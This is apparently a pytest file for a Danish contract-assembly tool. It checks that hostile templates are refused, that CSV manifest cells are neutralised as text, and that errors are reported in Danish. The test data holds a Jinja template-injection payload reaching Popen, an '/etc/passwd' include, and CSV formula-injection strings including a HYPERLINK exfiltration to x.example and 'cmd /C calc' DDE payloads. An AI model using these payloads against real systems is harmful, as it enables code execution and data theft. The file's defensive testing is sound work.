"""Templates run in a sandbox; what we write holds no formulas; system errors are Danish."""

from __future__ import annotations

import csv
import io
import re
import shutil
from pathlib import Path

import docx
import pytest

from assembler.render.templates import template_path
from assembler.workflows import EXAMPLE_ANSWERS
from tests.hostile.corpus import aftale, assert_no_english, assert_refused, snapshot

RCE = (
    "{% for c in ''.__class__.__mro__[1].__subclasses__() %}{% if c.__name__ == 'Popen' %}"
    "{{ c('touch PWNED', shell=True) }}{% endif %}{% endfor %}"
)


@pytest.fixture
def answers(tmp_path: Path) -> Path:
    """The bundled example answers, copied into the test folder."""
    return Path(shutil.copy(EXAMPLE_ANSWERS, tmp_path / "svar.yaml"))


def _template(folder: Path, text: str) -> Path:
    """The bundled individual template with one more paragraph holding text."""
    document = docx.Document(str(template_path("individuel")))
    document.add_paragraph(text)
    path = folder / "brevpapir.docx"
    document.save(str(path))
    return path


@pytest.mark.parametrize(
    ("text", "needles"),
    [
        (RCE, ["navne, der begynder med _", "funktions- og metodekald"]),
        ("{{ felter.parter.navn | attr('__class__') }}", ["filteret „attr“"]),
        ("{{ felter.parter.navn.upper() }}", ["funktions- og metodekald"]),
        ("{{ 'x' * 999999999 }}", ["gange (*)"]),
        ("{% include '/etc/passwd' %}", ["include"]),
        ("{{ felter.parter.navn | safe }}", ["filteret „safe“"]),
    ],
)
def test_a_hostile_template_is_refused_before_anything_renders(
    tmp_path: Path, answers: Path, text: str, needles: list[str]
) -> None:
    _template(tmp_path, text)
    before = snapshot(tmp_path)
    run = aftale("generer", "svar.yaml", "-o", "ud", "--skabelon-individuel", "brevpapir.docx",
                 cwd=tmp_path)  # fmt: skip
    assert_refused(run, "brevpapir.docx", "brødteksten, afsnittet „", *needles)
    assert snapshot(tmp_path) == before
    assert not (tmp_path / "PWNED").exists()


def test_a_render_time_error_names_paragraph_and_field(tmp_path: Path, answers: Path) -> None:
    _template(tmp_path, "Antal: {{ felter.parter.navn + 1 }} dage")
    run = aftale("generer", "svar.yaml", "-o", "ud", "--skabelon-individuel", "brevpapir.docx",
                 cwd=tmp_path)  # fmt: skip
    assert_refused(
        run,
        "brevpapir.docx, brødteksten, afsnittet „Antal: {{ felter.parter.navn + 1 }} dage“",
        "tekst og tal",
        "(feltet felter.parter.navn)",
    )
    assert not (tmp_path / "ud").exists()


FORMULAS = ['=HYPERLINK("http://x.example/?d="&A1,"Klik")', "+1+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]  # fmt: skip


def test_formula_names_stay_text_in_manifest_csv(tmp_path: Path, answers: Path) -> None:
    text = answers.read_text(encoding="utf-8")
    names_in_file = iter(FORMULAS[:3])
    text = re.sub(
        r"^(\s+navn: ).*$",
        lambda m: m.group(1) + "'" + next(names_in_file).replace("'", "''") + "'",
        text,
        flags=re.MULTILINE,
    )
    answers.write_text(text, encoding="utf-8")
    run = aftale("generer", "svar.yaml", "-o", "ud", cwd=tmp_path)
    assert run.code == 0, run.err
    rows = list(csv.reader(io.StringIO((tmp_path / "ud" / "manifest.csv").read_text("utf-8-sig")),
                           delimiter=";"))  # fmt: skip
    names = [row[2] for row in rows[1:]]
    for formula in FORMULAS[:3]:
        assert "'" + formula in names, names
    assert not any(cell[:1] in "=+-@" for row in rows for cell in row if cell)


def test_existing_outputs_are_never_touched(tmp_path: Path, answers: Path) -> None:
    (tmp_path / "ud").mkdir()
    (tmp_path / "ud" / "lokalaftale.docx").write_bytes(b"mit eget dokument")
    before = snapshot(tmp_path)
    run = aftale("generer", "svar.yaml", "-o", "ud", cwd=tmp_path)
    assert_refused(run, "findes allerede", "--overskriv")
    assert snapshot(tmp_path) == before
    assert [p.name for p in (tmp_path / "ud").iterdir()] == ["lokalaftale.docx"]


def test_not_a_directory_is_danish(tmp_path: Path, answers: Path) -> None:
    (tmp_path / "fil").write_text("x")
    run = aftale("generer", "svar.yaml", "-o", "fil/ud", cwd=tmp_path)
    assert_refused(run, "fil/ud", "er en fil, ikke en mappe")
    detailed = aftale("--detaljer", "generer", "svar.yaml", "-o", "fil/ud", cwd=tmp_path)
    assert "(detaljer: NotADirectoryError: [Errno 20] Not a directory" in detailed.err


@pytest.mark.skipif(shutil.which("setpriv") is None, reason="setpriv (util-linux) is missing")
def test_permission_denied_is_danish(tmp_path: Path, answers: Path) -> None:
    locked = tmp_path / "laast"
    locked.mkdir(mode=0o555)
    run = aftale("generer", "svar.yaml", "-o", "laast/ud", cwd=tmp_path, unprivileged=True)
    assert_refused(run, "laast/ud: kan ikke oprette mappen. Du har ikke adgang til „laast/ud“")
    assert not list(locked.iterdir())
    assert_no_english(run)
